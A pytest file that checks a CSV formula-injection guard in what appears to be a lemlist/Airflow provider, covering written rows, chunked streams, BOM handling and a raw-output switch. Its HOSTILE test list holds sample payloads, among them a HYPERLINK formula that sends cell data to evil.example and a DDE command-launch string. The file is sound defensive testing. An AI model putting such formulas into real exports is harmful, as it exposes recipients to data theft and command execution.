"""Spreadsheet-safe CSV (``lemlist_provider.safe_csv``): OWASP's rule on written rows and on a CSV streamed
through in chunks, checked by reading the result back with the csv module, and the admin's raw switch."""

from __future__ import annotations

import csv
import io
import random

import pytest

from lemlist_provider import safe_csv

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+33 6 12 34 56 78",
    "-5",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "-",
]
HARMLESS = ["", "ada@acme.io", "a=b", " =1", "'=already", "5", "Déjà vu", 'say "hi"', "line\nbreak", "a,b"]


@pytest.fixture(autouse=True)
def _guard_on(monkeypatch):
    monkeypatch.delenv("AIRFLOW__LEMLIST__NEUTRALISE_CSV_FORMULAS", raising=False)


def test_the_rule():
    for value in HOSTILE:
        assert safe_csv.neutralise(value) == "'" + value
    for value in HARMLESS:
        assert safe_csv.neutralise(value) == value
    # numbers the pipelines compute stay numbers; the same text from a data source is neutralised
    assert (
        safe_csv.neutralise(-5) == -5
        and safe_csv.neutralise(-0.5) == -0.5
        and safe_csv.neutralise(None) is None
    )


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_writer_and_dict_writer_neutralise_every_cell():
    out = io.StringIO(newline="")
    writer = safe_csv.writer(out)
    writer.writerow(["value", "reason"])
    writer.writerows([[value, 3] for value in HOSTILE + HARMLESS])
    rows = _read(out.getvalue())
    assert rows[1:] == [[safe_csv.neutralise(v), "3"] for v in HOSTILE + HARMLESS]

    out = io.StringIO(newline="")
    dict_writer = safe_csv.DictWriter(out, fieldnames=["name", "n"], extrasaction="ignore")
    dict_writer.writeheader()
    dict_writer.writerows([{"name": v, "n": -1, "ignored": "=x"} for v in HOSTILE])
    assert _read(out.getvalue())[1:] == [["'" + v, "-1"] for v in HOSTILE]


def test_the_admin_switch_writes_raw(monkeypatch):
    for off in ("False", "false", "0", "off", "no"):
        monkeypatch.setenv("AIRFLOW__LEMLIST__NEUTRALISE_CSV_FORMULAS", off)
        out = io.StringIO(newline="")
        safe_csv.writer(out).writerows([[v] for v in HOSTILE])
        assert [row[0] for row in _read(out.getvalue())] == HOSTILE
    monkeypatch.setenv("AIRFLOW__LEMLIST__NEUTRALISE_CSV_FORMULAS", "garbage")  # unclear: the guard stays on
    out = io.StringIO(newline="")
    safe_csv.writer(out).writerow(["=1"])
    assert out.getvalue().startswith("'=1")
    out = io.StringIO(newline="")
    safe_csv.writer(out, raw=True).writerow(["=1"])  # code that needs raw cells asks explicitly
    assert out.getvalue().startswith("=1")


def _stream(data: bytes, chunk: int, **kwargs) -> tuple[bytes, int]:
    sink = io.BytesIO()
    guard = safe_csv.FormulaGuard(sink, **kwargs)
    for start in range(0, len(data), chunk):
        guard.write(data[start : start + chunk])
    guard.finish()
    return sink.getvalue(), guard.inserted


def _random_csv(seed: int, terminator: str) -> tuple[list[list[str]], bytes]:
    rng = random.Random(seed)
    pieces = HOSTILE + HARMLESS + ['"', '""=x', '"=quoted start', "=a,b", "=multi\nline", "@", "\t", ",=x"]
    quoting = rng.choice([csv.QUOTE_MINIMAL, csv.QUOTE_ALL])
    if quoting == csv.QUOTE_MINIMAL and terminator == "\n":  # the csv module would leave a \r unquoted,
        pieces = [p for p in pieces if "\r" not in p]  # which no reader could read back as one cell
    rows = [[rng.choice(pieces) for _ in range(rng.randint(1, 6))] for _ in range(200)]
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator=terminator, quoting=quoting).writerows(rows)
    assert _read(out.getvalue()) == rows  # a well-formed CSV to begin with
    return rows, out.getvalue().encode("utf-8")


@pytest.mark.parametrize("terminator", ["\n", "\r\n"])
@pytest.mark.parametrize("chunk", [1, 2, 3, 7, 64, 1 << 20])
def test_streamed_csv_reads_back_as_neutralised_cells_whatever_the_chunks(terminator, chunk):
    for seed in range(3):
        rows, data = _random_csv(seed, terminator)
        out, inserted = _stream(data, chunk)
        back = _read(out.decode("utf-8"))
        assert back == [[safe_csv.neutralise(cell) for cell in row] for row in rows]
        assert inserted == sum(cell != safe_csv.neutralise(cell) for row in rows for cell in row)
        assert len(out) == len(data) + inserted  # nothing else changed


def test_stream_keeps_a_bom_and_line_endings_and_raw_passes_everything():
    data = b"\xef\xbb\xbfemail,phone\r\nada@acme.io,+33612345678\r\n=1,-2"
    out, inserted = _stream(data, 1)
    assert out == b"\xef\xbb\xbfemail,phone\r\nada@acme.io,'+33612345678\r\n'=1,'-2" and inserted == 3
    assert _stream(data, 5, raw=True)[0] == data
    assert _stream(b"=", 1)[0] == b"'=" and _stream(b"", 1)[0] == b""
    assert _stream(b"\xef\xbb", 1)[0] == b"\xef\xbb"  # shorter than a BOM: passed on at finish()
